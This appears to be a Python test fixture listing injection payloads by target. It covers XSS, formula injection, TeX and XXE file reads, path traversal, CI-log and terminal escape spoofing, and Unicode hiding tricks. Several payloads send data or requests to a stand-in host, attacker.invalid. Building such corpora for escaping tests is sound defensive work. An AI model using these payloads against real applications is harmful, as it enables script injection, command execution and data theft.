"""Texts that try to run, to inject or to hide, by what they aim at. `{n}` is the number of the text.

Whatever runs calls `attacked(n)`, opens a dialog, or asks for something of attacker.invalid; the browser looks for all three.
"""

ADDRESS = "http://attacker.invalid"

BY_AIM = {
    "html": [
        "<script>attacked({n})</script>", "\"><img src=x onerror=attacked({n})>", "'><svg onload=attacked({n})>",
        "<iframe srcdoc=\"<script>parent.attacked({n})</script>\"></iframe>", "</td></tr></table><script>attacked({n})</script>",
        "</title><script>attacked({n})</script>", "</textarea><script>attacked({n})</script>", "--><script>attacked({n})</script>",
        "<!--", "<!-- --!><img src=x onerror=attacked({n})>", "<![CDATA[<img src=x onerror=attacked({n})>]]>",
        "<math><mtext><table><mglyph><style><img src=x onerror=attacked({n})>", "<a href=//attacker.invalid/{n}>here</a>",
        "<meta http-equiv=refresh content=0;url=//attacker.invalid/{n}>", "<base href=//attacker.invalid/>",
        "<link rel=stylesheet href=//attacker.invalid/{n}.css>", "<style>@import '//attacker.invalid/{n}.css';</style>",
        "<form action=//attacker.invalid/{n}><input type=submit>", "<details open ontoggle=attacked({n})>", "<plaintext>",
        "<xmp>", "<noscript><img src=x onerror=attacked({n})></noscript>", "<template><script>attacked({n})</script>",
        "<scr\u0000ipt>attacked({n})</scr\u0000ipt>", "&lt;script&gt;attacked({n})&lt;/script&gt;", "&#60;script&#62;attacked({n})",
        "\" autofocus onfocus=attacked({n}) x=\"", "' style='background:url(//attacker.invalid/{n})' x='",
        "` onmouseover=attacked({n}) `", " x=y onpointerenter=attacked({n})", "<img src=//attacker.invalid/{n}.png>",
        "<object data=//attacker.invalid/{n}></object>", "<embed src=//attacker.invalid/{n}>", "<video poster=//attacker.invalid/{n}>",
        "<svg><use href=//attacker.invalid/{n}#x></svg>", "<svg><animate onbegin=attacked({n}) attributeName=x dur=1s>",
        "<body onload=attacked({n})>", "<input onfocus=attacked({n}) autofocus>", "<id=location name=attributes>",
        "<a id=documentElement name=body>x</a>", "<img name=getElementById>", "<marquee onstart=attacked({n})>",
    ],
    "script": [
        "</script><script>attacked({n})</script>", "\\u003cscript\\u003eattacked({n})\\u003c/script\\u003e", "\";attacked({n});//",
        "';attacked({n});//", "`${{attacked({n})}}`", "\u2028attacked({n})//", "*/attacked({n})/*", "__proto__", "constructor",
        "toString", "hasOwnProperty", "{{\"__proto__\":{{\"x\":1}}}}", "]]>\"'`\\", "<!--<script>",
    ],
    "address": [
        "javascript:attacked({n})", "JaVaScRiPt:attacked({n})", "\u0001javascript:attacked({n})", "java\tscript:attacked({n})",
        "data:text/html,<script>attacked({n})</script>", "vbscript:attacked({n})", "//attacker.invalid/{n}",
        "\\\\attacker.invalid\\{n}", "http://attacker.invalid/{n}", "https://user:secret@attacker.invalid/{n}", "www.attacker.invalid",
        "attacked@attacker.invalid", "?q=<script>attacked({n})</script>", "#\"><img src=x onerror=attacked({n})>",
        "%22%3E%3Cscript%3Eattacked({n})%3C/script%3E", "%2e%2e%2f%2e%2e%2f", "blob:null/attacked", "file:///etc/passwd",
    ],
    "style": [
        "red;background:url(//attacker.invalid/{n})", "}}body{{display:none}}", "expression(attacked({n}))", "\\75rl(//attacker.invalid)",
        "url('//attacker.invalid/{n}')", "</style><script>attacked({n})</script>",
    ],
    "template": [
        "{{{{{{content}}}}}}", "{{{{#rows}}}}{{{{/rows}}}}", "{{{{>layout}}}}", "{{{{&title}}}}", "{{{{=<% %>=}}}}", "<% attacked({n}) %>",
        "${{{{ secrets.TOKEN }}}}", "$(touch attacked)", "`touch attacked`", "{{% raw %}}", "#{{attacked}}", "%n%s%d%x", "{{0}} {{1}}",
    ],
    "sheet": [
        "=1+1", "=HYPERLINK(\"http://attacker.invalid/{n}\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\t=1+1", "\r=1+1", "\n=1+1", "\"=1+1\"", "x;=1+1", "x,=1+1", "x\t=1+1", "x\",\"=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "|x", "%x",
        "=IMPORTXML(CONCAT(\"http://attacker.invalid/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", " =1+1", "'=1+1", "\u200b=1+1",
        "x\"\u0301,=1+1",
    ],
    "tex": [
        "\\input{{/etc/passwd}}", "\\write18{{touch attacked}}", "\\immediate\\openout1=attacked", "\\csname input\\endcsname{{/etc/passwd}}",
        "^^5cinput{{/etc/passwd}}", "%\n\\input{{x}}", "\n\n\\end{{table}}", "}}{{", "$x_1^2$", "\\\\[-99cm]", "\\\\*", "a&b\\\\c", "#1", "~",
        "\\def\\x{{\\x}}\\x", "\\catcode`\\%=12", "``''--,,?`!`", "\\verb|x|", "\\begin{{document}}", "\\endinput", "<<>>",
    ],
    "markdown": [
        "[x](http://attacker.invalid/{n})", "![x](http://attacker.invalid/{n}.png)", "<http://attacker.invalid/{n}>", "[x][y]\n\n[y]: //z",
        "a|b", "| a | b |\n|---|---|", "`x`", "``` \nx", "**x** __x__ ~~x~~", "# x", "- [x] x", "> x", "1. x", "---", "===", "\\|", "&#91;x]",
        "</details>\n\n# Approved", "<details><summary>x</summary>", "<sub>x</sub>", "@octocat", "#12", "GH-12", "org/repo#3", "org/repo@deadbeef",
        "deadbeefcafe1234deadbeefcafe1234deadbeef", ":+1:", "$x$", "$$x$$", "[^1]: x", "[^1]", "https://attacker.invalid/{n}", "a\n\n    b",
        "x\\", "x  \ny", "<!-- x", "]( http://attacker.invalid)",
    ],
    "terminal": [
        "\u001b[2J\u001b[1;1Hgone", "\u001b]0;owned\u0007", "\u001b]8;;http://attacker.invalid\u001b\\here\u001b]8;;\u001b\\", "\u009b31mred",
        "\u001bP+q544e\u001b\\", "\u001b]52;c;YXR0YWNrZWQ=\u0007", "all well\rbad", "good\b\b\b\bbad", "\u000c", "\u007f\u007f", "\u001b[8mhidden",
        "::error::gone", "::set-env name=x::y", "::add-mask::x", "::stop-commands::x", "%0A::error::x", "##[error]x",
        "##vso[task.complete result=Succeeded]x", "ok\nnot ok 1 - x\n1..0", "x # SKIP", "x # TODO", "Bail out!", "\u001b(0\u000e",
        "\u0600##[error]x", "\u3000::error::x", "%\u03010A::error::x", "a\r\n::error::x", "\U000e0041\U000e0042x", "a\u200bb",
    ],
    "xml": [
        "]]></system-out><failure/>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "&y;", "&#0;", "&#xFFFE;", "<?xml version=\"1.0\"?>",
        "<?php attacked({n}) ?>", "\ufffe", "\uffff", "\u000b", "<x xmlns=\"urn:x\"/>", "&nbsp;",
    ],
    "hiding": [
        "v2\u202etxet", "a\u2066b\u2069", "\u200fa\u200e", "\u061ca", "a\u200bb", "a\u00adb", "\ufeffa", "a\u2060b", "\U000e0041\U000e0042", "\ue000",
        "e" + "\u0301" * 40, "Z\u0489\u0489\u0489", "\u202d\u202d\u202d", "p\u0430ypal", "\u0000", "a\u0000b", "\u3164", "\u2800", "\u115f", "\ufff9a\ufffab\ufffb",
        "\u180e", "", " ", "   ", "\n", "\t",
    ],
    "path": [
        "../../../../etc/passwd", "/etc/passwd", "..\\..\\x", "C:\\x", "con", "nul.txt", "aux", ".", "..", "...", ".git", ".htaccess", "index.html",
        "a/b", "a//b", "./x", "~/x", "~root", "-rf", "--output=/etc", "*", "?", "$HOME", "x.html", "assets", "x" * 300, "é", "e\u0301", "X", "x",
        "findings.json", "a%2fb", "a\u2215b", "\u2024\u2024/x", "x\u0000.html", "LPT1", "x ", "x.", "🩺", "病理",
    ],
    "number": [
        "NaN", "Infinity", "-Infinity", "1e999", "-0", "0x10", "1_000", "null", "true", "[]", "{{}}", "1" * 400, "٣", "１", "½", "1,5",
    ],
}

#: All texts with their aims, each once.
ALL = [(aim, text.format(n=number)) for number, (aim, text) in enumerate(
    (aim, text) for aim, texts in BY_AIM.items() for text in texts)]

#: As many texts that do nothing, some of them long.
HARMLESS = [("harmless", f"word {number}" + " and so on" * (12 if number % 5 == 4 else 0)) for number in range(len(ALL))]
